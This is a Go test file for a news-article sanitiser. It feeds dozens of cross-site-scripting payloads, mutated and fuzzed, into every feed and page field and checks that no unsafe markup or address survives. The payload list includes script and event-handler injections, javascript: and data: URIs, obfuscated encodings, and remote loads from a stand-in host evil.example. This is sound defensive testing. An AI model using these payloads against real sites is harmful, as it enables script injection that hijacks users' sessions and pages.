package normaliser_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	nethtml "golang.org/x/net/html"
	"google.golang.org/protobuf/reflect/protoreflect"

	v1 "github.com/depeche-wire/depeche/proto/depeche/v1"

	"github.com/depeche-wire/depeche/services/normaliser"
	"github.com/depeche-wire/depeche/services/normaliser/internal/text"
)

// attacks are what must not reach a consumer, as markup or as an address.
var attacks = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src=javascript:alert(1)>`,
	`<a href="javascript:alert(1)">lien</a>`, `<a href="jav&#x09;ascript:alert(1)">lien</a>`, "<a href=\"java\tscript:alert(1)\">lien</a>", `<a href="&#1;javascript:alert(1)">lien</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>`, `<a href="vbscript:msgbox(1)">lien</a>`, `<a href=" javascript&colon;alert(1)">lien</a>`,
	`<p style="background:url(javascript:alert(1))">texte</p>`, `<style>@import 'http://evil.example/x.css';</style>`, `<link rel=stylesheet href=http://evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<base href="javascript:alert(1)//">`, `<form action=javascript:alert(1)><input type=submit></form>`,
	`<table background="javascript:alert(1)">`, `<video><source onerror=alert(1)></video>`, `<details open ontoggle=alert(1)>`, `<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?>`,
	`"><script>alert(1)</script>`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `JaVaScRiPt:alert(1)`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;img src=x onerror=alert(1)&amp;gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;svg/onload=alert(1)&#x3e;`,
	"<\x00script>alert(1)</script>", "<scr\u200bipt>alert(1)</scr\u200bipt>", "<\u00adscript>", "\u202e<script>\u202c", "＜script＞alert(1)＜/script＞", "<a\x0bhref=\"javascript:alert(1)\">lien</a>",
	`//evil.example/a`, `https://user:pass@evil.example/a`, `http://evil.example/"onmouseover="alert(1)`, "https://evil.example/\njavascript:alert(1)", `file:///etc/passwd`,
}

// knownAttacks adds the collections beside the repository, if they are there.
func knownAttacks(t testing.TB) []string {
	t.Helper()
	file, err := os.Open("../../../shared/data/security/xss/vectors.jsonl")
	if err != nil {
		t.Log("no collections of attacks beside the repository: only our own are tried")
		return attacks
	}
	defer file.Close()
	all := slices.Clone(attacks)
	lines := bufio.NewScanner(file)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var c struct{ HTML string }
		if err := json.Unmarshal(lines.Bytes(), &c); err != nil {
			t.Fatal(err)
		}
		short, _ := text.Cut(c.HTML, 1000) // the fetcher lets no longer titles through
		all = append(all, short)
	}
	return all
}

// hostileItem is an item with what the strings say in each field of entry and page.
func hostileItem(t testing.TB, attack func() string) *v1.Item {
	t.Helper()
	attr := func() string { return html.EscapeString(attack()) }
	object := func() string {
		b, err := json.Marshal(attack())
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	meta := ""
	for _, name := range []string{"og:title", "og:description", "og:image", "og:image:alt", "og:url", "og:site_name", "author", "keywords", "article:tag", "article:section", "article:published_time", "copyright", "license", "tdm-reservation"} {
		meta += fmt.Sprintf("<meta property=%q content=\"%s\">\n", name, attr())
	}
	ld := fmt.Sprintf(`{"@type":"NewsArticle","headline":%s,"description":%s,"articleBody":%s,"author":[{"name":%s},%s],"keywords":[%s],"articleSection":%s,"image":[%s],"license":%s,"publisher":{"name":%s},"url":%s,"datePublished":%s}`,
		object(), object(), object(), object(), object(), object(), object(), object(), object(), object(), object(), object())
	page := fmt.Sprintf(`<html lang="%s"><head><title>%s</title>%s<link rel=canonical href="%s"><link rel=license href="%s"><script type="application/ld+json">%s</script></head><body><article><h1>%s</h1>
<p class=chapo>%s La commune de Bafang ouvre lundi sa première bibliothèque de quartier, après un an de travaux.</p><p class=byline>Par %s</p><time datetime="%s">%s</time>
<p>Les rayons comptent déjà douze cents livres, donnés par les habitants. %s Les enfants des écoles voisines viendront le mercredi.</p>
<figure><img src="%s" alt="%s" onerror="%s"><figcaption>%s © %s</figcaption></figure><p>La salle de lecture <a href="%s" onclick="%s" title="%s">reste ouverte</a> le soir jusqu’à vingt heures, sauf le dimanche. %s</p>
<h2>%s</h2><ul><li>%s</li></ul><blockquote>%s</blockquote><pre>%s</pre><table><tr><td>%s</td><td>1</td></tr></table><p>#%s #Bafang</p></article></body></html>`,
		attr(), attack(), meta, attr(), attr(), ld, attack(), attack(), attack(), attr(), attack(), attack(), attr(), attr(), attr(), attack(), attack(), attr(), attr(), attr(), attr(),
		attack(), attack(), attack(), attack(), attack(), attack())
	it := item(t, "https://quotidien.example/1", page)
	it.Fetched.Entry = &v1.Entry{
		Guid: "urn:1", Url: "https://quotidien.example/1", Title: attack(), Summary: attack() + " Une phrase.", Content: "<p>Une phrase.</p>" + attack(), Authors: []string{attack()}, Categories: []string{attack()},
		Credit: attack(), Rights: attack(), Enclosures: []*v1.Enclosure{{Url: attack(), Type: "image/jpeg"}}, PublishedText: attack(),
	}
	return it
}

// TestHostileFields puts attacks into every field of feed and page, as they are and
// damaged at random, and reads every field of the article that comes of it.
func TestHostileFields(t *testing.T) {
	t.Parallel()
	n := normaliser.New(normaliser.Default())
	all := knownAttacks(t)
	for i, a := range all {
		if testing.Short() && i >= len(attacks) {
			continue
		}
		checkHarmless(t, n, hostileItem(t, func() string { return a }))
		if t.Failed() {
			t.Fatalf("attack %d: %q", i, a)
		}
	}
	r := rand.New(rand.NewPCG(7, 11))
	rounds := 500
	if testing.Short() {
		rounds = 50
	}
	for range rounds {
		var used []string
		checkHarmless(t, n, hostileItem(t, func() string {
			used = append(used, strings.ToValidUTF8(damage(all[r.IntN(len(all))], r), ""))
			return used[len(used)-1]
		}))
		if t.Failed() {
			t.Fatalf("attacks %q", used)
		}
	}
}

// damage changes an attack as those do who look for a way through.
func damage(s string, r *rand.Rand) string {
	at := r.IntN(len(s) + 1)
	switch r.IntN(8) {
	case 0:
		return html.EscapeString(s)
	case 1:
		return s[:at] + []string{"\x00", "\t", "\n", "\x01", "\u200b", "\u00ad", "\ufeff", "\x7f", "\u202e", "&#8203;", "&Tab;", "&NewLine;", "/**/"}[r.IntN(13)] + s[at:]
	case 2:
		return s[:at]
	case 3:
		return strings.ToUpper(s)
	case 4:
		return strings.NewReplacer("<", "&lt;", ":", "&colon;", "\"", "&quot;").Replace(s)
	case 5:
		return s[:at] + attacks[r.IntN(len(attacks))] + s[at:]
	case 6:
		return url.PathEscape(s)
	}
	return s
}

// checkHarmless checks every field of the article that the item gives.
func checkHarmless(t *testing.T, n *normaliser.Normaliser, it *v1.Item) {
	t.Helper()
	checkHostile(t, n, it)
	out, err := n.Normalise(t.Context(), it)
	if err != nil {
		t.Fatal(err)
	}
	a := out[0].Article
	eachString(a.ProtoReflect(), "article", func(field, value string) {
		switch {
		case field == "article.html":
			checkHTML(t, value)
		case strings.HasSuffix(field, "url"):
			checkAddress(t, field, value)
		default:
			if text.HasTag(value) {
				t.Errorf("%s is markup: %.200q", field, value)
			}
		}
		if i := strings.IndexFunc(value, isHidden); i >= 0 {
			t.Errorf("%s has a character that nobody sees: %.200q", field, value[i:])
		}
	})
}

func isHidden(r rune) bool {
	return unicode.IsControl(r) && r != '\n' && r != '\t' || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0xad || r == 0xfeff
}

// eachString visits the strings of a message, with the path of their fields.
func eachString(m protoreflect.Message, path string, visit func(field, value string)) {
	m.Range(func(f protoreflect.FieldDescriptor, v protoreflect.Value) bool {
		name := path + "." + string(f.Name())
		one := func(v protoreflect.Value) {
			switch f.Kind() {
			case protoreflect.StringKind:
				visit(name, v.String())
			case protoreflect.MessageKind:
				eachString(v.Message(), name, visit)
			}
		}
		switch {
		case f.IsMap():
			v.Map().Range(func(k protoreflect.MapKey, v protoreflect.Value) bool {
				visit(name, k.String())
				eachString(v.Message(), name, visit)
				return true
			})
		case f.IsList():
			for i := range v.List().Len() {
				one(v.List().Get(i))
			}
		default:
			one(v)
		}
		return true
	})
}

var (
	safeElement = regexp.MustCompile(`^(?:p|h[2-4]|ul|ol|li|blockquote|em|strong|sub|sup|pre|code|figure|figcaption|br|table|thead|tbody|tr|th|td|caption|a|img)$`)
	safeAddress = regexp.MustCompile(`^https?://[^/\s"'<>\\@]+(?:[/?#][^\s"<>\\]*)?$`)
)

func checkAddress(t *testing.T, field, value string) {
	t.Helper()
	if value != "" && !safeAddress.MatchString(value) {
		t.Errorf("%s: %.200q is no address of the web", field, value)
	}
}

// checkHTML reads the HTML as a browser does: only what we let through is in it.
func checkHTML(t *testing.T, value string) {
	t.Helper()
	z := nethtml.NewTokenizer(strings.NewReader(value))
	for {
		switch z.Next() {
		case nethtml.ErrorToken:
			return
		case nethtml.CommentToken, nethtml.DoctypeToken:
			t.Errorf("html has %q", z.Raw())
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken, nethtml.EndTagToken:
			token := z.Token()
			if !safeElement.MatchString(token.Data) {
				t.Errorf("html has an element %q", token.Data)
			}
			for _, a := range token.Attr {
				switch a.Key {
				case "href", "src":
					if u, err := url.Parse(a.Val); err != nil || u.Scheme != "http" && u.Scheme != "https" || u.Host == "" || u.User != nil {
						t.Errorf("html has the address %q", a.Val)
					}
				case "alt", "rel":
				default:
					t.Errorf("html has an attribute %q", a.Key)
				}
			}
		}
	}
}

// FuzzFields puts what the fuzzer makes up into every field.
func FuzzFields(f *testing.F) {
	for i, a := range attacks {
		f.Add(a, attacks[(i+7)%len(attacks)])
	}
	n := normaliser.New(normaliser.Default())
	f.Fuzz(func(t *testing.T, a, b string) {
		turn := 0
		checkHarmless(t, n, hostileItem(t, func() string {
			turn++
			if turn%2 == 0 {
				return strings.ToValidUTF8(a, "")
			}
			return strings.ToValidUTF8(b, "")
		}))
	})
}
